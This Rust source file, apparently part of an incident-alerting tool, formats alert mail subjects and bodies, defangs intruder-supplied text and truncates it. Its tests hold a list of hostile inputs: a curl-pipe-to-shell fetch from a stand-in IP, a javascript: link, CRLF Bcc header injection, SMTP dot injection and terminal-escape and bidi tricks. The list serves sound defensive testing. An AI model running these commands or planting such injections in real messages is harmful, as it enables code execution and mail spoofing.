//! A letter in plain words, with everything in it that came from outside made harmless.

use super::Letter;
use crate::respond::incident::Phase;
use crate::show::{self, defang};

/// The phase in a word.
pub fn phase(letter: &Letter) -> &'static str {
    match letter.message.phase {
        Phase::Open => "opened",
        Phase::Update => "update",
        Phase::Close => "closed",
    }
}

/// One line: what mail has as its subject.
pub fn subject(letter: &Letter) -> String {
    let m = &letter.message;
    format!(
        "[{}] {} {}: {} ({})",
        letter.sensor,
        m.incident,
        m.severity.name(),
        defang(&m.title),
        phase(letter)
    )
}

/// Everything, in lines.
pub fn body(letter: &Letter) -> String {
    let m = &letter.message;
    let mut out = format!(
        "{}\n\nincident {} {}, severity {}, sensor {}, {} UTC\n",
        defang(&m.title),
        m.incident,
        phase(letter),
        m.severity.name(),
        letter.sensor,
        show::time(m.time)
    );
    if !m.lines.is_empty() {
        out.push('\n');
    }
    for line in &m.lines {
        out.push_str("- ");
        out.push_str(&defang(line));
        out.push('\n');
    }
    if m.more > 0 {
        out.push_str(&format!("- and {} more\n", m.more));
    }
    if m.phase == Phase::Close {
        out.push_str("\nNothing more for a while: this incident is closed.\n");
    }
    if let Some(c) = &m.campaign {
        out.push_str(&format!("\nThe whole story: turncoat campaign report {c}\n"));
    }
    out
}

/// At most so many characters, cut at a line where that is possible.
pub fn within(text: &str, most: usize) -> String {
    if text.chars().count() <= most {
        return text.to_owned();
    }
    let cut: String = text.chars().take(most.saturating_sub(2)).collect();
    let end = cut.rfind('\n').filter(|n| *n > most / 2).unwrap_or(cut.len());
    format!("{}\n\u{2026}", cut.get(..end).unwrap_or_default())
}

#[cfg(test)]
/// What intruders may write, for the tests of every way.
pub mod tests {
    use super::*;
    use crate::respond::incident::{Message, Severity};
    use turncoat_event::Time;

    /// A letter whose every text an intruder wrote.
    pub fn letter(text: &str) -> Letter {
        Letter::new(
            "gate",
            Message {
                incident: "I-3".into(),
                number: 2,
                phase: Phase::Update,
                severity: Severity::High,
                title: format!("C-1: {text}"),
                lines: vec![text.into(), format!("{text} again")],
                more: 4,
                campaign: Some("C-1".into()),
                time: Time(1_795_435_200_000_000_000),
                opened: Time(1_795_435_100_000_000_000),
            },
        )
    }

    /// What intruders write to be fetched, clicked, or to call people.
    pub const HOSTILE: &[&str] = &[
        "curl http://192.0.2.7/x.sh|sh",
        "HTTPS://Evil.Example/?q=1",
        "<!channel> @here @everyone <@U123>",
        "[click](http://evil.example) ![x](https://evil.example/p.png)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "mailto:a@b.example tel:+123",
        "evil\u{3002}example",
        "\u{1b}]0;x\u{7}\u{202e}gpj.exe",
        "a\r\nBcc: everybody@example.org\r\n\r\nbody",
        ".\r\n.\r\nMAIL FROM:<x>",
        "``` ``` **bold** ~~ || spoiler ||",
        "CEF:0|x|y|1|2|3|10|msg=a=b\\|c\n",
    ];

    #[test]
    fn nothing_that_a_client_would_act_on_is_left() {
        for text in HOSTILE {
            let all = format!("{}\n{}", subject(&letter(text)), body(&letter(text)));
            let lower = all.to_lowercase();
            for bad in [
                "://",
                "http",
                "@",
                "mailto:",
                "javascript:",
                "evil.example",
                "\u{1b}",
                "\r",
                "\u{202e}",
            ] {
                assert!(!lower.contains(bad), "{bad} in {all}");
            }
        }
    }

    #[test]
    fn what_is_cut_is_short() {
        for most in [2, 10, 60] {
            for text in HOSTILE {
                assert!(
                    within(&body(&letter(text)), most).chars().count() <= most,
                    "{text}"
                );
            }
        }
    }
}
